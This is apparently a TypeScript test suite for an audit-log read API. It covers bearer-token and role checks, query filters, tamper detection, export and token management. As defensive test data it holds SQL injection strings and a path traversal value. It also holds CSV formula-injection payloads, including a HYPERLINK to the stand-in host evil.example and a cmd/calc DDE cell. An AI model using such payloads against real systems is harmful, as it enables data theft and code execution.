// The read API on a real PostgreSQL holding three hosts' logs (testing/api-fixture.ts): tokens and roles on every
// route, hostile filters, each route's answers, all validated against the served OpenAPI document.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { OpenApiChecker, unresolvedRefs, type Answer } from '../../testing/openapi-check.js';
import { apiWorld, RUNS, SHA, sha, type ApiWorld } from '../../testing/api-fixture.js';
import { testPostgres } from '../../testing/pg-server.js';
import { dataStreamNamespace } from '../../render/ecs.js';
import { OPENAPI } from './openapi.js';
import { verifyBundle } from '../../core/bundle.js';
import { parseVerifierKey } from '../../core/note.js';
import { CSV_COLUMNS } from './export.js';

const pgc = testPostgres();
const skip = 'skip' in pgc ? pgc.skip : false;

type Role = 'viewer' | 'auditor' | 'admin';
const RANK: Record<Role, number> = { viewer: 0, auditor: 1, admin: 2 };

let w: ApiWorld;
const checker = new OpenApiChecker(OPENAPI);

before(async () => {
  if (!skip) w = await apiWorld((pgc as { url: string }).url);
});
after(async () => {
  await w?.close();
});

/** One request to the app, its answer checked against the document; returns the answer. */
async function call(method: string, url: string, opts: { token?: string | null; auth?: string; body?: string; type?: string } = {}): Promise<Answer> {
  const headers: Record<string, string> = {};
  if (opts.auth !== undefined) headers.authorization = opts.auth;
  else if (opts.token) headers.authorization = `Bearer ${opts.token}`;
  if (opts.type) headers['content-type'] = opts.type;
  const res = await w.app.request(url, { method, headers, ...(opts.body !== undefined ? { body: opts.body } : {}) });
  const a: Answer = { status: res.status, headers: res.headers, body: await res.text() };
  checker.check(method, url, a);
  return a;
}

const json = <T = Record<string, unknown>>(a: Answer): T => JSON.parse(a.body) as T;

/** Every operation of the document with its least role and a concrete URL to call. */
function operations(): { method: string; url: string; role: Role }[] {
  const out: { method: string; url: string; role: Role }[] = [];
  for (const [path, ops] of Object.entries(OPENAPI.paths)) {
    for (const [method, op] of Object.entries(ops as Record<string, { 'x-role'?: Role }>)) {
      const role = op['x-role'];
      if (!role) continue;
      const url = path.replace('{ref}', RUNS.r1.id.slice(0, 8)).replace('{host}', 'render-7').replace('{id}', '999999');
      out.push({ method: method.toUpperCase(), url, role });
    }
  }
  return out;
}

describe('the read API', { skip }, () => {
  it('the document: OpenAPI 3.1, every $ref resolves, and the routes of the app are exactly its paths', () => {
    assert.equal(OPENAPI.openapi, '3.1.0');
    assert.deepEqual(unresolvedRefs(OPENAPI), []);
    const registered = new Set(
      w.app.routes
        .filter((r) => r.method !== 'ALL' && (r.path.startsWith('/api/') || r.path === '/healthz'))
        .map((r) => `${r.method} ${r.path.replace(/:([A-Za-z_]+)/g, '{$1}')}`),
    );
    const documented = new Set(Object.entries(OPENAPI.paths).flatMap(([p, ops]) => Object.keys(ops).map((m) => `${m.toUpperCase()} ${p}`)));
    assert.deepEqual([...registered].sort(), [...documented].sort());
    // Each operation behind a token names its least role and the bearer scheme.
    for (const o of operations()) assert.ok(['viewer', 'auditor', 'admin'].includes(o.role));
  });

  it('401 on every route without a valid bearer token, always with WWW-Authenticate: Bearer, never saying which part failed', async () => {
    const bad: (string | undefined)[] = [
      undefined,
      `Basic ${Buffer.from('admin:admin').toString('base64')}`,
      'Bearer',
      'Bearer ',
      `Bearer  ${w.tokens.admin}`,
      `Bearer ${w.tokens.admin} extra`,
      `Token ${w.tokens.admin}`,
      `Bearer ${w.tokens.admin.slice(0, -1)}`,
      `Bearer ffaudit-api-${'A'.repeat(43)}`,
      `Bearer ffaudit-join-${'A'.repeat(32)}`,
      `Bearer ${w.tokens.revoked}`,
      `Bearer ${"' OR 1=1 --"}`,
    ];
    for (const o of operations()) {
      const lines = new Set<string>();
      for (const auth of bad) {
        const a = await call(o.method, o.url, auth === undefined ? {} : { auth });
        assert.equal(a.status, 401, `${o.method} ${o.url} with ${String(auth)}`);
        assert.equal(a.headers.get('www-authenticate'), 'Bearer realm="ffaudit"');
        lines.add(a.body);
      }
      assert.equal(lines.size, 1, 'one answer for every kind of failure');
      // A token in the query string or a cookie is not a credential here.
      const q = await call(o.method, `${o.url}${o.url.includes('?') ? '&' : '?'}access_token=${w.tokens.admin}`);
      assert.equal(q.status, 401);
      const res = await w.app.request(o.url, { method: o.method, headers: { cookie: `token=${w.tokens.admin}` } });
      assert.equal(res.status, 401);
    }
    // The request log names paths only: never a token.
    assert.ok(!w.logLines.some((l) => l.includes('ffaudit-api-')), 'no token in the request log');
  });

  it('403 on every route above the token\'s role; the role that suffices gets past the check', async () => {
    for (const o of operations()) {
      for (const role of ['viewer', 'auditor', 'admin'] as const) {
        const a = await call(o.method, o.url, { token: w.tokens[role] });
        if (RANK[role] < RANK[o.role]) {
          assert.equal(a.status, 403, `${o.method} ${o.url} as ${role}`);
          assert.equal(a.body, `this needs a token of role ${o.role} or above; this token's role is ${role}\n`);
        } else assert.notEqual(a.status, 403, `${o.method} ${o.url} as ${role}: ${a.body}`);
        assert.notEqual(a.status, 401);
        assert.ok(a.status < 500, `${o.method} ${o.url} as ${role}: ${a.status} ${a.body}`);
      }
    }
  });

  it('runs: the same record as log --json plus log, newest first, keyset pages with exact totals, filters', async () => {
    const all = json<{ items: { id: string; log: string; entries: number[]; status: string }[]; next: string | null; total: number; unreadable: unknown[] }>(
      await call('GET', '/api/v1/runs', { token: w.tokens.viewer }),
    );
    assert.deepEqual(
      all.items.map((r) => [r.id, r.log]),
      [
        [RUNS.r4.id, 'ingest-2.test/ffaudit'],
        [RUNS.r3.id, 'ingest-2.test/ffaudit'],
        [RUNS.r2.id, 'render-7.test/ffaudit'],
        [RUNS.r1.id, 'ws-1.test/ffaudit'],
      ],
    );
    assert.equal(all.total, 4);
    assert.equal(all.next, null);
    assert.deepEqual(all.unreadable, []);
    const r2 = all.items[2] as Record<string, unknown>;
    assert.deepEqual(Object.keys(r2), ['id', 'tool', 'entries', 'status', 'user', 'uid', 'host', 'asserted_actor', 'reason', 'cwd', 'argv', 'started_at', 'ended_at', 'duration_ms', 'exit_code', 'signal', 'inputs', 'outputs', 'streams', 'ffmpeg', 'report_sha256', 'log']);
    assert.equal(r2.asserted_actor, 'farm');
    // Pages of one, oldest first, walked with the cursor.
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page: { items: { id: string }[]; next: string | null; total: number } = json(
        await call('GET', `/api/v1/runs?limit=1&order=asc${cursor ? `&cursor=${cursor}` : ''}`, { token: w.tokens.viewer }),
      );
      assert.equal(page.total, 4);
      seen.push(...page.items.map((r) => r.id));
      cursor = page.next;
    } while (cursor !== null && seen.length < 10);
    assert.deepEqual(seen, [RUNS.r1.id, RUNS.r2.id, RUNS.r3.id, RUNS.r4.id]);
    const ids = async (q: string) => json<{ items: { id: string }[] }>(await call('GET', `/api/v1/runs?${q}`, { token: w.tokens.viewer })).items.map((r) => r.id);
    assert.deepEqual(await ids(`sha256=${SHA.B.toUpperCase()}`), [RUNS.r3.id, RUNS.r2.id]);
    assert.deepEqual(await ids('host=render-7'), [RUNS.r2.id]);
    assert.deepEqual(await ids('log=ws-1.test%2Fffaudit&log=render-7.test%2Fffaudit'), [RUNS.r2.id, RUNS.r1.id]);
    assert.deepEqual(await ids('status=failed'), [RUNS.r4.id]);
    assert.deepEqual(await ids('status=ok,incomplete'), [RUNS.r3.id, RUNS.r2.id, RUNS.r1.id]);
    assert.deepEqual(await ids('user=alice'), [RUNS.r1.id]);
    assert.deepEqual(await ids('actor=farm'), [RUNS.r2.id]);
    assert.deepEqual(await ids('since=2026-12-01T10:10:00Z&until=2026-12-01T11:20:00%2B01:00'), [RUNS.r3.id, RUNS.r2.id]);
    assert.deepEqual(await ids('path=%2Fout%2F'), [RUNS.r3.id]);
    assert.deepEqual(await ids('q=RENDER%2Fb.MP4'), [RUNS.r2.id]);
    assert.deepEqual(await ids('q=B.mp4'), [RUNS.r3.id, RUNS.r2.id]);
    assert.deepEqual(await ids('tool=ffprobe'), []);
  });

  it('hostile filter values: 400 with one line saying which, or matched literally', async () => {
    const refused: [string, RegExp][] = [
      ['since=2026-12-01', /^since: not an RFC 3339 date-time/],
      ['since=2026-12-01%2010:00:00Z', /^since: not an RFC 3339/],
      ['since=2026-02-30T00:00:00Z', /^since: not an RFC 3339/],
      ['until=2026-12-01T24:00:00Z', /^until: not an RFC 3339/],
      ['until=2026-12-31T23:59:60Z', /^until: a leap second/],
      ['until=9999-12-31T23:59:59Z', /^until: outside the times a run can carry/],
      ['since=2h', /^since: not an RFC 3339/],
      ['since=2026-12-02T00:00:00Z&until=2026-12-01T00:00:00Z', /^since is after until$/],
      ['since=2026-12-01T00:00:00Z&since=2026-12-02T00:00:00Z', /^since: given 2 times, allowed once$/],
      ['sha256=abc', /^sha256: not a SHA-256/],
      [`sha256=${'g'.repeat(64)}`, /^sha256: not a SHA-256/],
      [`sha256=${SHA.A}%00`, /^sha256: a value must not contain NUL$/],
      ['user=al%00ice', /^user: a value must not contain NUL$/],
      ['status=ok,bogus', /^status: "bogus" is not one of/],
      ['status=', /^status: empty value$/],
      ['status=ok,,failed', /^status: "" is not one of/],
      ['tool=sh', /^tool: one of ffmpeg, ffprobe$/],
      ['limit=0', /^limit: an integer from 1 to 1000$/],
      ['limit=1001', /^limit: an integer from 1 to 1000$/],
      ['limit=1e3', /^limit: an integer from 1 to 1000$/],
      ['limit=-1', /^limit: an integer from 1 to 1000$/],
      ['limit=10&limit=20', /^limit: given 2 times/],
      ['order=random', /^order: desc or asc$/],
      ['cursor=not-a-cursor', /^cursor: not a cursor this server gave/],
      [`cursor=${Buffer.from('["1",1,"x"]').toString('base64url')}`, /^cursor: not a cursor/],
      [`cursor=${'A'.repeat(600)}`, /^cursor: longer than 512 characters$/],
      [`q=${'x'.repeat(201)}`, /^q: longer than 200 characters$/],
      [`path=${'p'.repeat(4097)}`, /^path: longer than 4096 characters$/],
      ['host=..%2F..%2Fetc', /^host: not a host name/],
      ['hostname=x', /^unknown query parameter "hostname"/],
      ['SELECT=1', /^unknown query parameter "SELECT"/],
      [`${'x'.repeat(100)}=1`, /^unknown query parameter "x{40}…"/],
    ];
    for (const [q, re] of refused) {
      const a = await call('GET', `/api/v1/runs?${q}`, { token: w.tokens.viewer });
      assert.equal(a.status, 400, `${q}: ${a.body}`);
      assert.match(a.body, /^[^\n]*\n$/, 'one line');
      assert.match(a.body.slice(0, -1), re, q);
      assert.equal(a.headers.get('content-type'), 'text/plain; charset=UTF-8');
    }
    // Notes have no status or tool; lineage and the routes without parameters refuse any.
    assert.match((await call('GET', '/api/v1/notes?status=ok', { token: w.tokens.viewer })).body, /^unknown query parameter "status"/);
    assert.match((await call('GET', '/api/v1/logs?x=1', { token: w.tokens.viewer })).body, /^unknown query parameter "x" \(this route takes: none\)/);
    assert.match((await call('GET', '/api/v1/lineage', { token: w.tokens.viewer })).body, /^sha256: required\n$/);
    assert.match((await call('GET', '/api/v1/runs/zzzzzz', { token: w.tokens.viewer })).body, /^not a run id or a prefix of one/);
    assert.match((await call('GET', '/api/v1/runs/a1a1a', { token: w.tokens.viewer })).body, /^not a run id or a prefix of one/);
    // SQL and LIKE metacharacters, quotes, backslashes and non-ASCII are matched literally: no error, no match.
    for (const v of ["' OR '1'='1", '%', '_', '\\', '%_\\', '"; DROP TABLE api_tokens; --', 'ä𝄞', '[a-z]+', '(?i).*']) {
      for (const k of ['q', 'user', 'actor', 'path', 'log']) {
        const a = await call('GET', `/api/v1/runs?${k}=${encodeURIComponent(v)}`, { token: w.tokens.viewer });
        assert.equal(a.status, 200, `${k}=${v}: ${a.body}`);
        assert.deepEqual(json(a).items, [], `${k}=${v} matches nothing`);
      }
    }
    const still = await w.db.pool.query<{ n: number }>('SELECT count(*)::int AS n FROM api_tokens');
    assert.equal(still.rows[0]!.n, 4);
  });

  it('runs/{ref} by id or prefix, with the log; notes as log --json prints them', async () => {
    const r = json(await call('GET', `/api/v1/runs/${RUNS.r3.id.slice(0, 6).toUpperCase()}`, { token: w.tokens.viewer }));
    assert.equal(r.id, RUNS.r3.id);
    assert.equal(r.log, 'ingest-2.test/ffaudit');
    const miss = await call('GET', '/api/v1/runs/ffffff', { token: w.tokens.viewer });
    assert.equal(miss.status, 404);
    const wrongLog = await call('GET', `/api/v1/runs/${RUNS.r3.id}?log=ws-1.test%2Fffaudit`, { token: w.tokens.viewer });
    assert.equal(wrongLog.status, 404);
    const notes = json<{ items: Record<string, unknown>[]; total: number }>(await call('GET', '/api/v1/notes', { token: w.tokens.viewer }));
    assert.equal(notes.total, 1);
    assert.deepEqual(Object.keys(notes.items[0]!), ['type', 'index', 'time', 'user', 'uid', 'host', 'asserted_actor', 'text', 'files', 'log']);
    assert.equal(notes.items[0]!.type, 'custody.note');
    assert.equal(notes.items[0]!.text, 'received from render-7, checked');
    assert.equal(notes.items[0]!.log, 'ingest-2.test/ffaudit');
    assert.deepEqual(json(await call('GET', `/api/v1/notes?sha256=${SHA.A}`, { token: w.tokens.viewer })).items, []);
  });

  it('lineage across three hosts: the trace --json object plus log, each run of another log naming its own', async () => {
    const l = json<{ log: string; known: boolean; runs: { id: string; log?: string }[]; sources: unknown[]; notes: { text: string; log?: string }[]; read_by: unknown[]; file: unknown }>(
      await call('GET', `/api/v1/lineage?sha256=${SHA.C}&path=%2Fout%2Fc.mp4`, { token: w.tokens.viewer }),
    );
    assert.equal(l.known, true);
    assert.equal(l.log, 'ingest-2.test/ffaudit');
    assert.deepEqual(l.file, { path: '/out/c.mp4', sha256: SHA.C });
    assert.deepEqual(
      l.runs.map((r) => [r.id, r.log]),
      [
        [RUNS.r1.id, 'ws-1.test/ffaudit'],
        [RUNS.r2.id, 'render-7.test/ffaudit'],
        [RUNS.r3.id, undefined],
      ],
    );
    assert.deepEqual(l.notes.map((n) => n.text), ['received from render-7, checked']);
    const unknown = json(await call('GET', `/api/v1/lineage?sha256=${'0'.repeat(64)}`, { token: w.tokens.viewer }));
    assert.equal(unknown.known, false);
    assert.deepEqual(unknown.file, { path: '0'.repeat(64), sha256: '0'.repeat(64) });
  });

  it('logs: the state of each mirrored log; hosts for admins; re-verification on demand', async () => {
    const logs = json<{ items: { host: string; origin: string; size: number; silent: boolean; lag: number }[] }>(await call('GET', '/api/v1/logs', { token: w.tokens.viewer }));
    assert.deepEqual(
      logs.items.map((s) => [s.host, s.origin, s.size, s.silent, s.lag]).sort(),
      [
        ['ingest-2', 'ingest-2.test/ffaudit', 5, false, 0],
        ['render-7', 'render-7.test/ffaudit', 2, false, 0],
        ['ws-1', 'ws-1.test/ffaudit', 2, false, 0],
      ],
    );
    const hosts = json<{ items: { name: string; mirror_size: number }[] }>(await call('GET', '/api/v1/hosts', { token: w.tokens.admin }));
    assert.deepEqual(hosts.items.map((h) => [h.name, h.mirror_size]), [['ingest-2', 5], ['render-7', 2], ['ws-1', 2]]);
    const v = json(await call('POST', '/api/v1/logs/render-7/verify', { token: w.tokens.auditor }));
    assert.deepEqual(v, { host: 'render-7', ok: true, size: 2, problems: [] });
    assert.equal((await call('POST', '/api/v1/logs/nobody/verify', { token: w.tokens.auditor })).status, 404);
    assert.equal((await call('POST', '/api/v1/logs/%00/verify', { token: w.tokens.auditor })).status, 400);
    // An attacker with write access to the database alters a mirrored entry: the check on demand finds it.
    await w.db.pool.query("UPDATE mirror_entries SET data = convert_to(replace(convert_from(data, 'UTF8'), '/render/b.mp4', '/render/x.mp4'), 'UTF8') WHERE host_id = (SELECT id FROM hosts WHERE name = 'render-7') AND idx = 1");
    const tampered = json<{ ok: boolean; problems: string[] }>(await call('POST', '/api/v1/logs/render-7/verify', { token: w.tokens.auditor }));
    assert.equal(tampered.ok, false);
    assert.equal(tampered.problems.length, 1);
    assert.match(tampered.problems[0]!, /entry 1/);
    const after = json<{ items: { host: string; lastCheck: { ok: boolean } | null }[] }>(await call('GET', '/api/v1/logs', { token: w.tokens.viewer }));
    assert.equal(after.items.find((s) => s.host === 'render-7')!.lastCheck?.ok, false);
    // The run rebuilt from the altered entry is reported unreadable, never returned as a run.
    const runs = json<{ items: { id: string }[]; unreadable: { log: string; index: number }[] }>(await call('GET', '/api/v1/runs?host=render-7', { token: w.tokens.viewer }));
    assert.deepEqual(runs.items, []);
    assert.deepEqual(runs.unreadable.map((u) => [u.log, u.index]), [['render-7.test/ffaudit', 0]]);
    // An export over it stops at the unreadable run: a last line says why, and the body does not end properly.
    const res = await w.app.request('/api/v1/export?format=ecs&type=run', { headers: { authorization: `Bearer ${w.tokens.auditor}` } });
    assert.equal(res.status, 200);
    const reader = res.body!.getReader();
    let text = '';
    await assert.rejects(
      (async () => {
        for (;;) {
          const { done, value } = (await reader.read()) as { done: boolean; value: Uint8Array };
          if (done) return;
          text += Buffer.from(value).toString('utf8');
        }
      })(),
    );
    const lines = text.trimEnd().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
    assert.equal(lines.length, 2, 'r1, then the abort line');
    assert.equal((lines[0]!.event as { id: string }).id, RUNS.r1.id);
    assert.match(String(lines[1]!.ffaudit_export_error), /^export aborted after 1 runs: entry 0 of render-7\.test\/ffaudit could not be read back as recorded: /);
    assert.ok(w.logLines.some((l) => /^export aborted after 1 runs: /.test(l)));
    // Put it back for the tests after this one.
    await w.db.pool.query("UPDATE mirror_entries SET data = convert_to(replace(convert_from(data, 'UTF8'), '/render/x.mp4', '/render/b.mp4'), 'UTF8') WHERE host_id = (SELECT id FROM hosts WHERE name = 'render-7') AND idx = 1");
    assert.equal(json(await call('POST', '/api/v1/logs/render-7/verify', { token: w.tokens.auditor })).ok, true);
  });

  it('export: ECS NDJSON with one data stream per log, CSV with formula cells neutralised', async () => {
    const ecs = await call('GET', '/api/v1/export?format=ecs', { token: w.tokens.auditor });
    assert.equal(ecs.status, 200);
    assert.equal(ecs.headers.get('content-type'), 'application/x-ndjson; charset=utf-8');
    const docs = ecs.body.trimEnd().split('\n').map((l) => JSON.parse(l) as { event: { id: string }; data_stream: { type: string; dataset: string; namespace: string }; labels: { ffaudit_origin: string } });
    assert.deepEqual(docs.map((d) => d.event.id), [RUNS.r1.id, RUNS.r2.id, RUNS.r3.id, RUNS.r4.id], 'oldest first');
    for (const d of docs) {
      assert.deepEqual(d.data_stream, { type: 'logs', dataset: 'ffaudit.runs', namespace: dataStreamNamespace(d.labels.ffaudit_origin) });
      assert.match(d.data_stream.namespace, /^[a-z0-9_]{1,100}$/);
    }
    assert.equal(new Set(docs.map((d) => d.data_stream.namespace)).size, 3, 'three logs, three data streams');
    assert.equal(dataStreamNamespace('ws-1.test/ffaudit'), `ws_1_test_ffaudit_${sha('ws-1.test/ffaudit').slice(0, 16)}`);
    const notes = await call('GET', '/api/v1/export?format=ecs&type=note', { token: w.tokens.auditor });
    const n = JSON.parse(notes.body.trimEnd()) as { data_stream: { dataset: string }; event: { action: string } };
    assert.equal(n.data_stream.dataset, 'ffaudit.notes');
    assert.equal(n.event.action, 'custody-note');

    const csv = await call('GET', '/api/v1/export?format=csv&status=failed', { token: w.tokens.auditor });
    assert.equal(csv.headers.get('content-type'), 'text/csv; charset=utf-8; header=present');
    const rows = csv.body.split('\r\n');
    assert.equal(rows[0], CSV_COLUMNS.join(','));
    assert.equal(rows.length, 3, 'header, one run, and the final CRLF');
    assert.equal(rows[2], '');
    assert.equal(
      rows[1],
      // The user cell would be a formula: neutralised, then quoted (it holds quotes). The command starts with the
      // tool's name, so its @ and + inside are harmless; the input with no hash starts with ':'.
      `ingest-2.test/ffaudit,run,3,${RUNS.r4.id},2026-12-01T10:30:00.000000000Z,2026-12-01T10:31:00.000000000Z,` +
        `"'=HYPERLINK(""http://evil.example/?""&A1)",,ingest-2,ffmpeg,failed,1,` +
        `ffmpeg -i '@SUM(1+1)*cmd|'\\'' /C calc'\\''!A0' +x.mp4,:-2+3.mov,,`,
    );
    // A CSV of notes: the files it names under inputs, its words under text.
    const nc = (await call('GET', '/api/v1/export?format=csv&type=note', { token: w.tokens.auditor })).body.split('\r\n');
    assert.equal(nc[1], `ingest-2.test/ffaudit,note,2,,2026-12-01T10:25:00.000000000Z,,clerk,,ingest-2,,,,,${SHA.C}:/out/c.mp4,,"received from render-7, checked"`);
    // Refused: what an export does not take.
    for (const [q, re] of [
      ['', /^format: ecs or csv \(required\)$/],
      ['format=xml', /^format: ecs or csv/],
      ['format=csv&limit=10', /^unknown query parameter "limit"/],
      ['format=csv&type=note&status=ok', /^status and tool filter runs, not custody notes$/],
      ['format=csv&type=both', /^type: run or note$/],
    ] as const) {
      const a = await call('GET', `/api/v1/export?${q}`, { token: w.tokens.auditor });
      assert.equal(a.status, 400, q);
      assert.match(a.body.slice(0, -1), re);
    }
  });

  it('bundle and report across three logs: the bundle verifies offline with the three logs\' keys; the report is VERIFIED', async () => {
    const b = await call('GET', `/api/v1/bundle?sha256=${SHA.C}&path=%2Fout%2Fc.mp4&with_reports=true`, { token: w.tokens.auditor });
    assert.equal(b.status, 200, b.body);
    assert.equal(b.headers.get('content-type'), 'application/json; charset=utf-8');
    const parsed = JSON.parse(b.body) as { format: string };
    assert.equal(parsed.format, 'ffaudit-bundle/v2');
    const pubkeys = Object.values(w.hosts).map((h) => parseVerifierKey(h.ledger.vkey));
    const v = verifyBundle(Buffer.from(b.body), { pubkeys, fileSha256: SHA.C });
    assert.deepEqual(v.failures, []);
    assert.equal(v.ok, true);
    // Without one log's key the bundle is not accepted.
    assert.equal(verifyBundle(Buffer.from(b.body), { pubkeys: pubkeys.slice(1), fileSha256: SHA.C }).ok, false);
    const two = await call('GET', `/api/v1/bundle?sha256=${SHA.A}&sha256=${SHA.B}`, { token: w.tokens.auditor });
    assert.equal(two.status, 200, two.body);
    assert.equal((await call('GET', `/api/v1/bundle?sha256=${'0'.repeat(64)}`, { token: w.tokens.auditor })).status, 404);
    assert.match((await call('GET', `/api/v1/bundle?sha256=${SHA.A}&path=a&path=b`, { token: w.tokens.auditor })).body, /^path: give none, or one per sha256/);

    const r = await call('GET', `/api/v1/report?sha256=${SHA.C}&path=%2Fout%2Fc.mp4`, { token: w.tokens.auditor });
    assert.equal(r.status, 200, r.body);
    assert.equal(r.headers.get('content-type'), 'text/html; charset=utf-8');
    assert.equal(r.headers.get('content-security-policy'), "default-src 'none'; style-src 'unsafe-inline'; img-src data:; frame-ancestors 'none'");
    assert.equal(r.headers.get('x-ffaudit-verified'), 'true');
    for (const h of Object.values(w.hosts)) assert.ok(r.body.includes(h.origin), `the report names ${h.origin}`);
    assert.equal((await call('GET', `/api/v1/report?sha256=${'0'.repeat(64)}`, { token: w.tokens.auditor })).status, 404);
  });

  it('tokens over the API: made (shown once), listed without the token, revoked at once; bodies checked', async () => {
    const made = await call('POST', '/api/v1/tokens', { token: w.tokens.admin, type: 'application/json', body: JSON.stringify({ name: 'ci reader', role: 'viewer' }) });
    assert.equal(made.status, 201);
    const t = json<{ id: number; token: string; role: string; name: string; revoked_at: null }>(made);
    assert.equal(t.role, 'viewer');
    assert.equal(t.name, 'ci reader');
    assert.equal((await call('GET', '/api/v1/runs?limit=1', { token: t.token })).status, 200);
    const list = await call('GET', '/api/v1/tokens', { token: w.tokens.admin });
    assert.ok(!list.body.includes('ffaudit-api-'), 'never the token');
    const row = json<{ items: { id: number; last_used_at: string | null }[] }>(list).items.find((x) => x.id === t.id)!;
    assert.notEqual(row.last_used_at, null, 'last use recorded');
    const revoked = await call('DELETE', `/api/v1/tokens/${t.id}`, { token: w.tokens.admin });
    assert.equal(revoked.status, 200);
    assert.notEqual(json(revoked).revoked_at, null);
    assert.equal((await call('GET', '/api/v1/runs?limit=1', { token: t.token })).status, 401);
    assert.equal((await call('DELETE', '/api/v1/tokens/987654', { token: w.tokens.admin })).status, 404);
    for (const [body, type, re] of [
      ['{"name":"x","role":"root"}', 'application/json', /^the body must be \{"name": string, "role"/],
      ['{"name":"x","role":"viewer","admin":true}', 'application/json', /^the body must be/],
      ['{"name":"","role":"viewer"}', 'application/json', /^token name: 1 to 100 characters/],
      ['{"name":"a\\u0007b","role":"viewer"}', 'application/json', /^token name: 1 to 100 characters, no control characters$/],
      ['[1]', 'application/json', /^the body must be/],
      ['name=x&role=viewer', 'application/x-www-form-urlencoded', /^the body must be application\/json/],
      ['{', 'application/json', /^the body is not JSON$/],
    ] as const) {
      const a = await call('POST', '/api/v1/tokens', { token: w.tokens.admin, type, body });
      assert.equal(a.status, 400, body);
      assert.match(a.body.slice(0, -1), re, body);
    }
    const big = await call('POST', '/api/v1/tokens', { token: w.tokens.admin, type: 'application/json', body: JSON.stringify({ name: 'x'.repeat(5000), role: 'viewer' }) });
    assert.equal(big.status, 413);
  });

  it('/healthz: no token; 200 with the schema version, 503 for a schema from a newer ffaudit; never cached', async () => {
    const ok = await call('GET', '/healthz');
    assert.equal(ok.status, 200);
    assert.deepEqual(json(ok), { ok: true, schema: 6 });
    assert.equal(ok.headers.get('cache-control'), 'no-store');
    await w.db.pool.query("INSERT INTO ffaudit_schema (version, name) VALUES (99, 'from the future')");
    try {
      const newer = await call('GET', '/healthz');
      assert.equal(newer.status, 503);
      assert.deepEqual(json(newer), { ok: false, schema: 99, reason: "the database's schema (99) is newer than this server knows (6)" });
    } finally {
      await w.db.pool.query('DELETE FROM ffaudit_schema WHERE version = 99');
    }
    assert.equal((await call('GET', '/api/v1/openapi.json')).status, 200);
  });

  it('every documented answer was met at least once', () => {
    const missing: string[] = [];
    for (const [path, ops] of Object.entries(OPENAPI.paths)) {
      for (const [m, op] of Object.entries(ops as Record<string, { responses: Record<string, unknown> }>)) {
        for (const status of Object.keys(op.responses)) {
          if (['503', '422', '413', '404', '400'].includes(status)) continue; // not every route can be made to fail each way here
          if (!checker.seen.has(`${m.toUpperCase()} ${path} ${status}`)) missing.push(`${m.toUpperCase()} ${path} ${status}`);
        }
      }
    }
    assert.deepEqual(missing, []);
  });
});

